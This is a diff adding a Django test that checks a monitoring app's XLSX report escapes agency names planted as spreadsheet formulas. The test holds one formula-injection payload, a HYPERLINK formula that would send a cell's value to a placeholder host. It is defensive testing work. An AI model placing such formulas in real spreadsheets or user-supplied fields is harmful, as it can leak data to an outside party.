@@ -175,3 +175,19 @@ def test_latest_run_wins(client, faults, heads, region, doc):
     client.force_login(heads["a"])
     detail = client.get(reverse("monitoring:agency", args=[region["edu"].pk])).content.decode()
     assert "最近一次监测未发现问题" in detail
+
+
+def test_xlsx_report_never_holds_a_formula(client, faults, heads):
+    """Agency names and codes planted as formulas stay text (gongkai.spreadsheet_cells)."""
+    from openpyxl import load_workbook
+
+    from orgs.models import Agency
+
+    plant = '=HYPERLINK("http://example.invalid/?leak="&B3,"点击")'
+    Agency.objects.filter(code="edu").update(name=plant)
+    run_checks(today=TODAY)
+    client.force_login(heads["a"])
+    book = load_workbook(io.BytesIO(client.get(reverse("monitoring:report_xlsx")).content))
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
+    assert any(c.value == "'" + plant for c in cells)
+    assert all(c.data_type != "f" and not str(c.value).startswith("=") for c in cells)
